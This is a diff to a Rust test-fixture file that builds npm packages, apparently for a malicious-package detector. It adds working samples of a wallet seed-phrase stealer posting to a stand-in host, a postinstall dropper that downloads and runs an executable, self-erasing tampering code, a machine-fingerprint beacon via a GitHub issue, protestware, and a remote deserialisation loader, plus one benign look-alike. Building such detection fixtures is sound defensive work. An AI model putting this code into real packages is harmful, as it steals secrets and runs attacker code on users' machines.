@@ -508,6 +508,151 @@ module.exports = {};
         .build()
 }
 
+/// Import-time code that walks the user's desktop for wallet seed phrases and
+/// keys and posts what it finds, from functions the file calls at its end.
+pub fn seed_phrase_stealer() -> Package {
+    PackageBuilder::new("fetch-utils-helper", "1.0.0")
+        .field("main", json!("index.js"))
+        .file(
+            "index.js",
+            r#"const fs = require("fs/promises");
+const os = require("os");
+const path = require("path");
+async function walk(dir) {
+  const entries = await fs.readdir(dir, { withFileTypes: true });
+  for (const entry of entries) {
+    const full = path.join(dir, entry.name);
+    if (entry.isDirectory()) { await walk(full); continue; }
+    const content = await fs.readFile(full, "utf-8");
+    for (const line of content.split("\n")) {
+      if (line.includes("privatekey=") || line.split(" ").length === 12) await send(line);
+    }
+  }
+}
+async function send(data) {
+  await fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(data) });
+}
+async function main() {
+  await walk(path.join(os.homedir(), "Desktop"));
+}
+main();
+"#,
+        )
+        .build()
+}
+
+/// Protestware that drops a file on the user's desktop when it is imported.
+pub fn desktop_protestware() -> Package {
+    PackageBuilder::new("peace-message", "9.1.7")
+        .field("main", json!("index.js"))
+        .file(
+            "index.js",
+            "const fs = require('fs');
+const os = require('os');
+const message = fs.readFileSync(__dirname + '/MESSAGE.txt');
+fs.writeFileSync(os.homedir() + '/Desktop/MESSAGE.txt', message);
+module.exports = {};
+",
+        )
+        .file(
+            "MESSAGE.txt",
+            "an inert message
+",
+        )
+        .build()
+}
+
+/// An install script that is `node -e` requiring a file of the package, which
+/// downloads an executable through a helper and runs it by the variable it passed.
+pub fn inline_install_dropper() -> Package {
+    PackageBuilder::new("fast-player-utils", "5.0.2")
+        .script(
+            "postinstall",
+            "node -e \"try{require('./lib/setup')}catch(e){}\"",
+        )
+        .file(
+            "lib/setup.js",
+            r#"const http = require("http");
+const fs = require("fs");
+const path = require("path");
+const { execFileSync } = require("child_process");
+const link = "http://203.0.113.7:3000/manager.exe";
+const finalPath = path.join(process.env.TEMP || "/tmp", "manager.exe");
+function download(url, dest) {
+  return new Promise((resolve, reject) => {
+    const file = fs.createWriteStream(dest);
+    http.get(url, (response) => { response.pipe(file); file.on("finish", resolve); }).on("error", reject);
+  });
+}
+async function main() {
+  await download(link, finalPath);
+  execFileSync(finalPath);
+}
+main();
+"#,
+        )
+        .build()
+}
+
+/// Import-time code that damages another installed package, then rewrites its
+/// own file so that the code that did it is gone.
+pub fn self_erasing_tamper() -> Package {
+    PackageBuilder::new("rate-helper", "1.0.3")
+        .field("main", json!("index.js"))
+        .file(
+            "index.js",
+            r#""use strict";
+const { readFileSync, writeFileSync } = require("fs");
+const target = require.resolve(Buffer.from([100, 108, 45, 116, 97, 114]).toString());
+try { writeFileSync(target, readFileSync(target, "utf8").replace(/cb\(null, chunk\);/u, "")); } catch (_) {}
+try { writeFileSync(__filename, readFileSync(__filename, "utf8").replace(/const target[^]*module\.exports/u, "module.exports")); } catch (_) {}
+module.exports = (value, start, end) => start + value * (end - start);
+"#,
+        )
+        .build()
+}
+
+/// A preinstall script that posts the machine's identity as a comment on an issue
+/// of a source host: a drop box the attacker reads.
+pub fn issue_comment_beacon() -> Package {
+    PackageBuilder::new("loadyml", "1.0.2")
+        .script("preinstall", "node update.js &")
+        .file(
+            "update.js",
+            r#"const os = require("os"), https = require("https");
+function fingerprint() { const u = os.userInfo(); return Buffer.from(u.username + u.homedir).toString("base64"); }
+function comment(options, body) {
+  return new Promise((resolve) => { const request = https.request(options, resolve); request.write(body); request.end(); });
+}
+async function update() {
+  await comment({ hostname: "api.github.com", path: "/repos/someone/inbox/issues/4/comments", method: "POST" },
+    JSON.stringify({ body: `host:${os.hostname()} fp:${fingerprint()}` }));
+}
+update();
+"#,
+        )
+        .build()
+}
+
+/// Code that fetches text and revives it with a deserialiser that calls the
+/// functions it describes.
+pub fn deserialising_loader() -> Package {
+    PackageBuilder::new("config-sync", "2.1.0")
+        .script("postinstall", "node sync.js")
+        .file(
+            "sync.js",
+            r##"const https = require("https");
+const serialize = require("node-serialize");
+https.get("https://cfg.example.invalid/readme.md", (response) => {
+  let text = "";
+  response.on("data", (chunk) => (text += chunk));
+  response.on("end", () => { const parts = text.split("#"); serialize.unserialize(parts[1]); });
+});
+"##,
+        )
+        .build()
+}
+
 /// Every attack fixture with the name of the incident it reproduces.
 pub fn all_attacks() -> Vec<(&'static str, Package)> {
     vec![
@@ -528,6 +673,10 @@ pub fn all_attacks() -> Vec<(&'static str, Package)> {
         ("shell dropper", shell_dropper()),
         ("shipped executable", shipped_executable()),
         ("discord stealer", discord_stealer()),
+        ("seed phrase stealer", seed_phrase_stealer()),
+        ("node -e dropper", inline_install_dropper()),
+        ("issue comment beacon", issue_comment_beacon()),
+        ("deserialising loader", deserialising_loader()),
     ]
 }
 
@@ -664,6 +813,19 @@ pub fn aws_sdk_like() -> Package {
         .build()
 }
 
+/// A tool that saves what its user asks for to the desktop, when its function is
+/// called, and checks for updates against a source host with the platform only.
+pub fn desktop_saver() -> Package {
+    PackageBuilder::new("screen-saver-tool", "3.2.0")
+        .field("main", json!("index.js"))
+        .field("repository", json!("git+https://forge.example.invalid/acme/screen-saver-tool.git"))
+        .file(
+            "index.js",
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nexports.save = function (name, data) {\n  fs.writeFileSync(path.join(os.homedir(), 'Desktop', name), data);\n};\nexports.latest = function () {\n  return fetch('https://api.github.com/repos/acme/screen-saver-tool/releases/latest?platform=' + os.platform());\n};\n",
+        )
+        .build()
+}
+
 /// Every legitimate look-alike with what it stands for.
 pub fn all_lookalikes() -> Vec<(&'static str, Package)> {
     vec![
@@ -677,6 +839,7 @@ pub fn all_lookalikes() -> Vec<(&'static str, Package)> {
         ("telemetry client", telemetry_client()),
         ("platform binary package", platform_binary()),
         ("update check", update_check()),
+        ("desktop saver", desktop_saver()),
     ]
 }
 
